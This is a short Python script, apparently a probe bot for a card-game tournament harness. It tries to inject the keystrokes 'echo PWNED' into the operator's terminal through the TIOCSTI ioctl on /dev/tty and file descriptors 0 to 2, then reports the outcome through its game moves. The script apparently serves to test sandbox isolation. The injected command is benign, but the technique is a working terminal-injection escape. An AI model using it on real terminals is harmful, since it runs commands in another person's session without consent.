"""Tries to push keystrokes into the terminal of whoever runs the tournament: TIOCSTI of
`echo PWNED` on /dev/tty and on fds 0, 1 and 2. Plays card 0 when every attempt failed,
garbage (invalid answers, counted as faults) when any keystroke went in."""
import fcntl
import os
import termios
from common import log, send, messages, card0

injected = 0
for label in ("/dev/tty", 0, 1, 2):
    try:
        fd = os.open(label, os.O_RDWR) if isinstance(label, str) else label
    except OSError as e:
        log("open %s: failed: %s" % (label, e))
        continue
    ok, err = 0, None
    for ch in b"echo PWNED\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
            ok += 1
        except OSError as e:
            err = e
    injected += ok
    log("TIOCSTI on %s: %d injected (%s)" % (label, ok, err))
log("injected total:", injected)
for msg in messages():
    if msg["type"] in ("start", "turn"):
        send(card0(msg) if injected == 0 else {"injected": injected})
